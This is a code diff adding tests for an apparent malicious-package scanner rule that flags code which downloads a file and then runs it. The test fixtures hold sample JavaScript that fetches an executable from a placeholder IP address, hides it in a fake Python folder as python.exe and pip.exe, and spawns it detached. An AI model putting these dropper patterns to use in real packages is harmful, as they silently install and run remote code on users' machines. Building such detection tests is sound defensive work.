@@ -492,3 +492,40 @@ location.assign(u);`),
     ).toEqual([]);
   });
 });
+
+describe('a download streamed into a file, then run', () => {
+  const dropRuns = (files: Record<string, string>) =>
+    load(files).evidence.filter((f) => f.rule === 'js.drop-and-run');
+  const head = `const os = require('os'), path = require('path'), fs = require('fs'), cp = require('child_process'), https = require('https');
+const dir = path.join(process.env.LOCALAPPDATA || path.join(os.homedir(), 'AppData', 'Local'), 'Programs', 'Python', 'Python3127');
+function fetchTo(url, file, done) { https.get(url, (res) => { const out = fs.createWriteStream(file); res.pipe(out); out.on('finish', () => out.close(done)); }); }`;
+  it('when the package loads: piped into a write stream, copied under a second name, run detached', () => {
+    const found = dropRuns({
+      'index.js': `${head}
+fetchTo('https://192.0.2.61/py.exe', path.join(dir, 'python.exe'), () => {
+  fs.copyFileSync(path.join(dir, 'python.exe'), path.join(dir, 'pip.exe'));
+  cp.spawn(path.join(dir, 'pip.exe'), ['-m', 'update'], { detached: true, stdio: 'ignore' }).unref();
+});`,
+    });
+    expect(found.map((f) => ('confidence' in f ? f.confidence : 0))).toEqual([0.85]);
+  });
+  it('stream.pipeline into the write stream', () => {
+    expect(
+      dropRuns({
+        'index.js': `${head}
+const { pipeline } = require('stream');
+https.get('https://192.0.2.61/a.exe', (res) => pipeline(res, fs.createWriteStream(path.join(dir, 'a.exe')), () => cp.execFile(path.join(dir, 'a.exe'))));`,
+      }),
+    ).toHaveLength(1);
+  });
+  it('quiet: a download saved to a file and never run, and a file written by a copy from the package', () => {
+    expect(
+      dropRuns({
+        'index.js': `${head}
+exports.save = (u, f) => fetchTo(u, f, () => {});
+fs.copyFileSync(path.join(__dirname, 'bin', 'tool'), path.join(dir, 'tool'));
+cp.execFile(path.join(dir, 'tool'), ['--version']);`,
+      }),
+    ).toEqual([]);
+  });
+});
